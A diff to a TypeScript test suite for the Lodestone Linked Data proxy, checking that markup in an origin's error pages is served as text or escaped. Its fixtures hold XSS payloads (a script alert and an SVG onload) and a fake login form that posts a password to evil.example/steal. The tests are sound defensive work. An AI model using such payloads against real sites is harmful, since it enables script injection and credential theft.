@@ -153,20 +153,34 @@ describe('the Linked Data proxy: reads', () => {
       assert.equal(header(failed, 'etag'), '"v2"');
     });
 
-    it('passes the origin’s error statuses and bodies through unchanged', async () => {
+    it('passes the origin’s error statuses and bodies through, markup as text', async () => {
       const cases = [
-        ['/gone', 410, 'text/html', '<h1>Gone</h1><script>alert(1)</script>'],
-        ['/missing', 404, 'text/turtle', `[] <${dct}title> "not here" .`],
-        ['/broken', 500, 'application/json', '{"error":"boom"}'],
+        ['/gone', 410, 'text/html', '<h1>Gone</h1><script>alert(1)</script>', 'text/plain; charset=utf-8'],
+        ['/svg', 400, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'text/plain; charset=utf-8'],
+        ['/missing', 404, 'text/turtle', `[] <${dct}title> "not here" .`, 'text/turtle'],
+        ['/broken', 500, 'application/json', '{"error":"boom"}', 'application/json'],
       ] as const;
-      for (const [path, status, type, body] of cases) {
+      for (const [path, status, type, body, served] of cases) {
         origin.on(path, { status, headers: { 'Content-Type': type }, body });
         const res = await s.request('GET', proxied(origin.url(path)), { headers: { Accept: 'application/ld+json' } });
         assert.equal(res.status, status, path);
-        assert.equal(header(res, 'content-type'), type);
+        assert.equal(header(res, 'content-type'), served, 'another origin’s markup is never served as markup here');
         assert.equal(res.body, body);
         assert.equal(header(res, 'content-security-policy'), 'sandbox', 'another origin’s page never runs as this origin’s');
       }
+    });
+
+    it('shows a browser an origin’s error inside Lodestone’s own error page, its body as text, with the origin’s status', async () => {
+      const fake = '<!doctype html><title>Log in</title><form action="https://evil.example/steal"><input type="password" name="pw"></form>';
+      origin.on('/fake-login', { status: 500, headers: { 'Content-Type': 'text/html' }, body: fake });
+      const res = await s.request('GET', proxied(origin.url('/fake-login')), { headers: { Accept: 'text/html' } });
+      assert.equal(res.status, 500);
+      assert.match(header(res, 'content-type')!, /^text\/html; charset=utf-8$/);
+      assert.match(res.body, /<pre class="foreign-body"[^>]*>&lt;!doctype html&gt;&lt;title&gt;Log in/, 'the body is text on the page');
+      assert.ok(!res.body.includes('<form action="https://evil.example'), 'none of the origin’s markup');
+      assert.ok(!/<input[^>]+password/.test(res.body));
+      assert.match(res.body, /<script type="application\/ld\+json" id="error-resource">/, 'the RDF error is embedded, as on any error page');
+      assert.match(header(res, 'content-security-policy')!, /script-src 'self'/, 'Lodestone’s own page, under its own policy');
     });
 
     it('reads an HTML page’s JSON-LD blocks with the page URL as base and the shipped schema.org context, fetching no context', async () => {
